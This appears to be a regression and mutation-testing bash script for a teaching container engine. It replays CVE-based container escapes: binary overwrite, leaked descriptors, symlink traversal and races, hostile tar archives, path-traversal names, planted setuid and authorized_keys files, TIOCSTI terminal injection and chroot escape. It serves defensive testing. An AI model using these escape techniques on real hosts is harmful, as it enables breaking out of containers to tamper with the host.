#!/usr/bin/env bash
# attacks.sh: attacks on the engine's own program, descriptors and paths, as root. The others, which a flag lets through,
# are in step06-final/attacks_test.go. Where one line of code is the defence, a copy of the engine is built without that line
# (a "mutant"), and the attack must succeed on it.
#
#   scripts/evidence/attacks.sh --compare [OLD NEW]   a table of every hole, tried on two programs: see attacks-compare.sh
[ "${1:-}" != --compare ] || exec "$(dirname "$0")/attacks-compare.sh" "${@:2}"
# shellcheck source=scripts/lib/check.sh
. "$(dirname "$0")/../lib/check.sh"
use lib/program lib/host checks/user-ns checks/cgroups
begin step06-final docs/zh/08-step06-engine.md
NEEDS=need_root

ours=("$PROGRAM" --root "$WORK/data" --state "$WORK/state")
engine() { "$ENGINE" --root "$WORK/data" --state "$WORK/state" "$@"; }
ENGINE=$PROGRAM

# The image: a static busybox, the attacker, and links that lead out.
make_image() {
	local busybox
	busybox=$(command -v busybox) || die "没有 busybox / no busybox: apt-get install busybox-static"
	mkdir -p "$WORK/image/bin" "$WORK/image/tmp" "$WORK/image/dev" "$WORK/image/proc" "$WORK/image/sys"
	chmod 1777 "$WORK/image/tmp"
	cp "$busybox" "$WORK/image/bin/busybox"
	for applet in sh cat true sleep; do
		ln -s busybox "$WORK/image/bin/$applet"
	done
	if [ -x "${MYDOCKER_BIN:-}/intruder" ]; then
		cp "$MYDOCKER_BIN/intruder" "$WORK/image/bin/attack"
	else
		build step06-final "$WORK/image/bin/attack" ./testdata/intruder || die "the attacker does not build"
	fi
	# The kernel looks the interpreter up when the process is in the container's pid namespace: there /proc/self is known.
	say '#!/proc/self/exe' >"$WORK/image/bin/self"
	chmod 755 "$WORK/image/bin/self"
	ln -s / "$WORK/image/outside-absolute"
	ln -s ../../../../../../../../.. "$WORK/image/outside-relative"
	# A directory of the host, a link to it, and what the link means in the container.
	ln -s "$WORK/host-files" "$WORK/image/outside"
	mkdir -p "$WORK/image$WORK/host-files"
	tar -C "$WORK/image" -cf "$WORK/image.tar" .
	engine import "$WORK/image.tar" attacker >/dev/null || die "the image cannot be imported"
}

# mutant FILE PATTERN REPLACEMENT [FILE PATTERN REPLACEMENT]… builds an engine without these lines of defence (sed's s command
# takes them away), unless an earlier check has; ENGINE becomes it.
mutant() {
	local go name
	name=mutant-$(say "$*" | cksum | cut -d' ' -f1)
	ENGINE=$WORK/bin/$name
	[ ! -x "$ENGINE" ] || return 0
	go=$(find_go) || skip_because "没有 Go，造不出去掉防御的引擎 / no Go to build the mutant"
	mutate "$@"
	(cd "$WORK/mutant" && GOWORK=off CGO_ENABLED=0 "$go" build -buildvcs=false -o "$ENGINE" .) || fail_because "the mutant does not build"
}

# mutate makes $WORK/mutant, the sources without these lines.
mutate() {
	rm -rf "$WORK/mutant"
	cp -R "$ROOT/step06-final" "$WORK/mutant"
	while [ $# -gt 0 ]; do
		cp "$WORK/mutant/$1" "$WORK/original"
		sed -i "s|$2|$3|" "$WORK/mutant/$1"
		! cmp -s "$WORK/original" "$WORK/mutant/$1" || fail_because "$1 里没有要去掉的防御 / the defence is not there to be removed: $2"
		shift 3
	done
	rm -f "$WORK/original"
}

make_image
engine run --rm --network none attacker true # the parent of the containers' cgroups is there to stay
mkdir "$WORK/host-files"
echo "GOT IN" >"$WORK/host-files/secret-of-the-host"
remember_host

# A process of the runtime comes into the container by exec, and the attacker waits for it.
overwrite() {
	engine run -d --name watch attacker attack overwrite-exe /tmp/watching >/dev/null
	until_true 20 engine exec watch cat /tmp/watching >/dev/null 2>&1
	local i
	for i in 1 2 3 4 5 6 7 8 9 10; do engine exec watch /bin/self >/dev/null 2>&1 || true; done
	engine wait watch >/dev/null 2>&1
	OUT=$(engine logs watch 2>&1)
	engine rm -f watch >/dev/null
}
try_overwrite() {
	overwrite
	expect_lacks "防御开着 with the defence" "GOT IN" "$OUT"
	mutant internal/runtime/seal.go 'if f, err := detachedReadOnly(self); err == nil {' 'if f, err := os.Open(self); err == nil {'
	overwrite
	expect_contains "防御关掉 without the defence" "GOT IN" "$OUT"
}
check try_overwrite "改写宿主机上的引擎程序 / overwrite the engine's program on the host [CVE-2019-5736]" "internal/runtime/seal.go"

# A process that comes in by exec is in the container's pid namespace only at last: without this, from the beginning.
OUTSIDE_MUTANT=(internal/runtime/exec.go '^\te.stayOutside()$' '')

# Whoever starts the engine has left a descriptor open on the host's files.
leak() { # start|exec DIRECTORY
	OUT=$(
		exec 37<"$WORK/host-files"
		if [ "$1" = exec ]; then
			engine run -d --name leak attacker sleep 1000 >/dev/null
			engine exec -w "$2" leak attack leaked-fd 2>&1
		else
			engine run --rm -w "$2" attacker attack leaked-fd 2>&1
		fi
	) || true
	engine rm -f leak >/dev/null 2>&1 || true
}
try_leak() {
	local how where
	for how in start exec; do
		for where in / /proc/self/fd/37; do
			leak "$how" "$where"
			expect_lacks "防御开着 with the defence: $how $where" "GOT IN" "$OUT"
		done
	done
	mutant internal/containerinit/init.go 'sys.CloseFrom(sync + 1)' 'error(nil)' internal/shim/shim.go 'sys.CloseFrom(sync + 1)' 'error(nil)' \
		internal/reexec/spawn.go '.*CloseRangeCloexec)$' '' internal/containerinit/program.go "n == 0 .. buffer\[0\] != '/'" 'n == 0' "${OUTSIDE_MUTANT[@]}"
	for how in start exec; do
		for where in / /proc/self/fd/37; do
			leak "$how" "$where"
			expect_contains "防御关掉 without the defence: $how $where" "GOT IN" "$OUT"
		done
	done
}
check try_leak "继承来的描述符 / an inherited descriptor, as such and as working directory [CVE-2024-21626]" "internal/containerinit/program.go"

# The attacker is root of a user namespace, with CAP_SYS_PTRACE in it, and waits for a process that comes in by exec.
peek() {
	engine run -d --name watch --userns remap --cap-add SYS_PTRACE attacker attack peek /tmp/watching >/dev/null
	until_true 20 engine exec watch cat /tmp/watching >/dev/null 2>&1
	(
		exec 37<"$WORK/host-files"
		for _ in $(seq 40); do engine exec watch true >/dev/null 2>&1 || true; done
	)
	engine kill watch >/dev/null 2>&1 || true
	OUT=$(engine logs watch 2>&1)
	engine rm -f watch >/dev/null
}
try_peek() {
	need_user_namespace
	peek
	expect_lacks "防御开着 with the defence" "GOT IN" "$OUT"
	mutant internal/reexec/spawn.go '.*CloseRangeCloexec)$' '' internal/reexec/spawn.go 'if c.hidden .. c.twoForks {' 'if false {' "${OUTSIDE_MUTANT[@]}"
	peek
	expect_contains "防御关掉 without the defence" "GOT IN" "$OUT"
}
check try_peek "偷看正在进来的进程 / look into a process that is just coming in [CVE-2016-9962]" "internal/reexec/spawn.go"

# Links of the image that lead to the host's files, and the ways of the engine that could follow them.
not_planted() { # WHAT: and what was planted is taken away
	local planted
	planted=$(find "$WORK/host-files" -mindepth 1 ! -name secret-of-the-host)
	find "$WORK/host-files" -mindepth 1 ! -name secret-of-the-host -delete
	[ -z "$planted" ] || fail_because "$1: 在宿主机上造出了 made on the host: $planted"
}

volume_link() { engine run --rm -v "$WORK/web:/outside/planted" attacker true >/dev/null 2>&1 || true; }
try_volume_link() {
	mkdir -p "$WORK/web"
	volume_link
	not_planted "-v"
	engine run --rm -v "$WORK/web:/outside-absolute$WORK/host-files/planted" -v "$WORK/web:/outside-relative$WORK/host-files/planted" attacker true >/dev/null 2>&1 || true
	not_planted "-v"
	engine run --rm -w /outside/planted attacker true >/dev/null 2>&1 || true
	not_planted "-w"
	mutant internal/containerinit/resolve.go 'sys.OPath.syscall.O_NOFOLLOW' 'sys.OPath' internal/containerinit/resolve.go 'err = syscall.EXDEV' 'err = nil'
	volume_link
	rmdir "$WORK/web"
	[ -e "$WORK/host-files/planted" ] || fail_because "防御关掉，什么也没有造出来 / without the defence nothing was made"
	rm -rf "$WORK/host-files/planted"
}
check try_volume_link "卷和工作目录跟着镜像里的链接出去 / volumes and the working directory follow links of the image [CVE-2021-30465, CVE-2024-45310]" "internal/containerinit/resolve.go"

LAYER_MUTANT=(internal/layer/root.go 'unix.O_PATH.unix.O_NOFOLLOW' 'unix.O_PATH')

copy_links() {
	engine create --name links attacker true >/dev/null
	engine cp "$WORK/bin/planted" links:/outside >/dev/null 2>&1 || true
	OUT=$(engine cp links:/outside/secret-of-the-host - 2>&1) || true
	engine rm -f links >/dev/null
}
try_copy_links() {
	say x >"$WORK/bin/planted"
	copy_links
	not_planted "cp"
	expect_lacks "cp" "GOT IN" "$OUT"
	mutant "${LAYER_MUTANT[@]}"
	copy_links
	rm "$WORK/bin/planted"
	expect_contains "防御关掉 without the defence: cp" "GOT IN" "$OUT"
	[ -e "$WORK/host-files/planted" ] || fail_because "防御关掉，什么也没有造出来 / without the defence nothing was made"
	rm -f "$WORK/host-files/planted"
}
check try_copy_links "cp 跟着镜像里的链接出去 / cp follows links of the image [CVE-2019-14271, CVE-2018-15664]" "internal/layer/root.go"

# What the container's tree says is no name, no mode and no privilege on the host.
copy_out() {
	mkdir -m 700 "$WORK/home"
	engine run --name chooser attacker sh -c 'busybox mkdir -p /evil/.ssh /pub; echo key >/evil/.ssh/authorized_keys
		busybox ln -s /evil/.ssh /data; echo x >/pub/x; busybox chmod 6755 /pub/x; busybox chmod 777 /pub' >/dev/null
	engine cp chooser:/data/ "$WORK/home" >/dev/null 2>&1 || true
	engine cp chooser:/pub/. "$WORK/home" >/dev/null 2>&1 || true
	OUT=$(cd "$WORK/home" && find . -name .ssh -o -perm /6000 -o -perm -002 ! -type l)
	engine rm -f chooser >/dev/null
	rm -rf "${WORK:?}/home"
}
try_copy_out() {
	copy_out
	[ -z "$OUT" ] || fail_because "the container has chosen: $OUT"
	mutant internal/engine/copy.go 's.isDir = found.Mode.unix.S_IFMT == unix.S_IFDIR' '&; s.name = path.Base(found.Name)' \
		internal/layer/unpack.go 'if u.o.Merge {' 'if false {' \
		internal/layer/unpack.go 'if u.o.Harmless != nil && mode' 'if false \&\& mode'
	copy_out
	expect_contains "防御关掉 without the defence: name" ".ssh" "$OUT"
	expect_contains "防御关掉 without the defence: set-user-id" "./x" "$OUT"
}
check try_copy_out "cp 出来的名字、模式和 setuid 位由容器挑 / the container chooses name, mode and set-user-id bit of a copy on the host" "internal/engine/copy.go"

# The container exchanges a directory and a link, thousands of times a second, while cp runs.
race() {
	engine run -d --name race attacker sh -c "mkdir /race; ln -s $WORK/host-files /trap; exec attack swap /race /trap" >/dev/null
	OUT=''
	for _ in $(seq "$1"); do
		OUT=$OUT$(engine cp race:/race/secret-of-the-host - 2>/dev/null | tr -d '\0') || true
		engine cp "$WORK/bin/planted" race:/race >/dev/null 2>&1 || true
		! race_won || break
	done
	engine rm -f race >/dev/null
}
race_won() { [ -e "$WORK/host-files/planted" ] || grep -q "GOT IN" <<<"$OUT"; }
try_race() {
	say x >"$WORK/bin/planted"
	race 60
	not_planted "cp"
	expect_lacks "cp" "GOT IN" "$OUT"
	mutant "${LAYER_MUTANT[@]}"
	# A round ends at the first success. One in which cp has put its file in the place of the link cannot be won any more: then a new one.
	for _ in $(seq 30); do
		race 60
		! race_won || break
	done
	rm "$WORK/bin/planted"
	race_won || fail_because "防御关掉，也没有得手 / without the defence it does not succeed either"
	rm -f "$WORK/host-files/planted"
}
check try_race "和 cp 赛跑 / race against cp with a symbolic link [CVE-2018-15664]" "internal/layer/root.go"

# An archive whose first entry is a link to the host, and whose second goes through it.
hostile_archive() {
	mkdir -p "$WORK/hostile/first" "$WORK/hostile/second/out"
	ln -s "$WORK/host-files" "$WORK/hostile/first/out"
	say x >"$WORK/hostile/second/out/planted"
	tar -cf "$WORK/hostile.tar" -C "$WORK/hostile/first" out -C "$WORK/hostile/second" out/planted
	rm -rf "$WORK/hostile"
}
try_archive() {
	hostile_archive
	engine import "$WORK/hostile.tar" hostile >/dev/null 2>&1 || true
	not_planted "import"
	engine rmi hostile >/dev/null 2>&1 || true
	mutant "${LAYER_MUTANT[@]}"
	engine import "$WORK/hostile.tar" hostile >/dev/null 2>&1 || true
	engine rmi hostile >/dev/null 2>&1 || true
	rm -f "$WORK/hostile.tar"
	[ -e "$WORK/host-files/planted" ] || fail_because "防御关掉，什么也没有造出来 / without the defence nothing was made"
	rm -f "$WORK/host-files/planted"
}
check try_archive "归档里的链接 / a link in an archive and a file that goes through it [CVE-2014-6407, CVE-2018-8115]" "internal/layer/root.go"

# A link in the build context that leads out of it.
build_context() {
	mkdir "$WORK/context"
	ln -s "$WORK/host-files" "$WORK/context/link"
	say 'FROM attacker
COPY link/secret-of-the-host /secret
CMD ["cat", "/secret"]' >"$WORK/context/Dockerfile"
	OUT=$(engine build -t built "$WORK/context" 2>&1 && engine run --rm built 2>&1) || true
	engine rmi built >/dev/null 2>&1 || true
	engine system prune -f >/dev/null 2>&1 || true
	rm -rf "$WORK/context"
}
try_build_context() {
	build_context
	expect_lacks "build" "GOT IN" "$OUT"
	mutant "${LAYER_MUTANT[@]}"
	build_context
	expect_contains "防御关掉 without the defence: build" "GOT IN" "$OUT"
}
check try_build_context "构建上下文里的链接 / a link in the build context [Dockerfile reference: COPY obeys the context]" "internal/build/copy.go"

# Names become paths.
names() {
	engine create --name ../../host-files/planted-container attacker true >/dev/null 2>&1 || true
	engine volume create ../../host-files/planted-volume >/dev/null 2>&1 || true
}
try_names() {
	names
	not_planted "--name, volume create"
	mutant internal/spec/values.go '!containerName.MatchString(name)' 'false' \
		internal/spec/mount.go 'volumeName.MatchString(name)' 'true'
	names
	engine ps -aq | xargs -r "$ENGINE" --root "$WORK/data" --state "$WORK/state" rm -f >/dev/null
	[ -e "$WORK/host-files/planted-volume" ] || fail_because "防御关掉，什么也没有造出来 / without the defence nothing was made"
	rm -rf "$WORK/host-files/planted-container" "$WORK/host-files/planted-volume"
}
check try_names "名字里的 .. / names that are paths [CVE-2014-9356, CVE-2014-9358]" "internal/spec/values.go"

# Root of a container leaves a set-user-id program for an ordinary user of the host.
host_user() {
	# By way of a shell: setpriv itself still has root's capabilities when it looks the program up.
	# shellcheck disable=SC2016 # for the inner shell
	OUT=$(setpriv --reuid 65534 --regid 65534 --clear-groups sh -c '"$0" become-root' "$1" 2>&1) || true
}
try_host_user() {
	local file files
	need_tool setpriv
	engine volume create shared >/dev/null
	engine run --name left -v shared:/shared attacker sh -c 'cat /bin/attack >/shared/x; cat /bin/attack >/tmp/x; busybox chmod 4755 /shared/x /tmp/x'
	files=$(find "$WORK/data" -name x -type f)
	expect_contains "files" volumes/shared "$files"
	expect_contains "files" snapshots/ "$files"
	for file in $files; do
		host_user "$file"
		expect_lacks "$file" "GOT IN" "$OUT"
	done
	# Without the modes of the directories above.
	find "$WORK/data/volumes" "$WORK/data/snapshots" -maxdepth 2 -type d -exec chmod 755 {} +
	for file in $files; do
		host_user "$file"
		expect_contains "防御关掉 without the defence: $file" "GOT IN" "$OUT"
	done
	engine rm -f left >/dev/null
	engine volume rm shared >/dev/null
}
check try_host_user "宿主机的普通用户运行容器留下的 setuid 程序 / a user of the host runs a set-user-id program that a container left [CVE-2021-41091]" "internal/idmap/remap.go"

try_inheritable() {
	OUT=$(engine run --rm attacker attack inheritable) || true
	expect_contains "run" "stopped" "$OUT"
	mutant internal/spec/security.go 'LinuxCapabilities{Bounding: caps}' 'LinuxCapabilities{Bounding: caps, Inheritable: caps}'
	OUT=$(engine run --rm attacker attack inheritable) || true
	expect_contains "防御关掉 without the defence" "GOT IN" "$OUT"
}
check try_inheritable "可继承的权能 / inheritable capabilities [CVE-2022-24769]" "internal/spec/security.go"

# What types into the terminal that the caller uses is executed by the caller's shell, when the container has ended.
push_input() { # COMMAND…: with an input that does not end, for script would type the end too
	# shellcheck disable=SC2016 # for the inner shell
	OUT=$(script -qec "$(quote "$@"); $(quote bash -c 'IFS= read -r -t 2 line && echo "the caller reads: $line"')" /dev/null < <(sleep 5) 2>&1) || true
}
try_push_input() {
	need_tool script
	[ "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null)" != 0 ] || skip_because "这个内核关掉了 TIOCSTI / this kernel has TIOCSTI switched off"
	push_input "${ours[@]}" run --rm -it attacker attack push-input
	expect_lacks "-t" "the caller reads: GOT IN" "$OUT"
	push_input chroot "$WORK/image" /bin/attack push-input
	expect_contains "没有自己的终端 / without a terminal of its own" "the caller reads: GOT IN" "$OUT"
}
check try_push_input "往调用者的终端里打字 / type into the caller's terminal [TIOCSTI, CVE-2016-2568, CVE-2017-5226]" "internal/containerinit/console.go"

# The classic escape: up from a directory that is above one's own root. After pivot_root there is nothing above.
try_chroot() {
	OUT=$(engine run --rm attacker attack escape-chroot "$WORK/host-files/secret-of-the-host" 2>&1) || true
	expect_lacks "pivot_root" "GOT IN" "$OUT"
	expect_contains "pivot_root" "stopped" "$OUT"
	OUT=$(chroot "$WORK/image" /bin/attack escape-chroot "$WORK/host-files/secret-of-the-host" 2>&1) || true
	expect_contains "只有 chroot / chroot alone" "GOT IN" "$OUT"
}
check try_chroot "经典的 chroot 逃逸 / the classic escape from chroot [chroot(2)]" "internal/containerinit/switchroot.go"

# F1 put back: links are followed where the engine mounts, and masks are looked up by path. A hundred random images find it.
random_images() { OUT=$(cd "$1" && GOWORK=off CGO_ENABLED=0 RANDOM_IMAGES=100 "$GO" test -count=1 -run TestRandomImages . 2>&1); }
try_random_images() {
	GO=$(find_go) || skip_because "没有 Go / no Go"
	random_images "$ROOT/step06-final" || fail_because "防御开着 with the defence: $OUT"
	mutate internal/containerinit/resolve.go 'if links == noLinks' 'if false \&\& links == noLinks' \
		internal/containerinit/mask.go 'p.root.covering(path)' 'p.root.covering("")'
	! random_images "$WORK/mutant" || fail_because "防御关掉，一百个镜像也没有发现 / without the defence a hundred images find nothing"
	expect_contains "防御关掉 without the defence" "core_pattern can be written" "$OUT"
}
check try_random_images "随机的链接树，第一号漏洞放回去 / random trees of links, with finding F1 put back [CVE-2019-19921, CVE-2023-27561]" "internal/containerinit/resolve.go"

engine network prune -f >/dev/null 2>&1
rm -rf "$WORK/host-files" "$WORK/mutant" "$WORK/image.tar" "$WORK"/bin/mutant-*
check check_host_same "宿主机和之前一样 / the host is as before" "findmnt; ip link; iptables-save"
finish
